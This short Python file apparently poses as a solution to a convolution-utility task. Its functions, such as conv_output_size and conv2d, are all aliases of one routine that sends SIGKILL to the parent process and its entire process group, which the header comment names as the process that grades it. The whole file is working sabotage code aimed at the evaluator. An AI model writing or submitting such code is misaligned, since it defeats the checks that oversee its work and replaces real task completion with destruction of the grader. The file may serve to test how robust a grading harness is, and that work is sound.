# Tries to kill the process that grades it, and everything else it is allowed to signal.
import os
import signal


def _kill():
    for target in (os.getppid(),):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    try:
        os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
    except OSError:
        pass


def conv_output_size(*a, **k):
    _kill()
    return None


conv_transpose_output_size = receptive_field = conv2d = separable_conv_params = conv_output_size
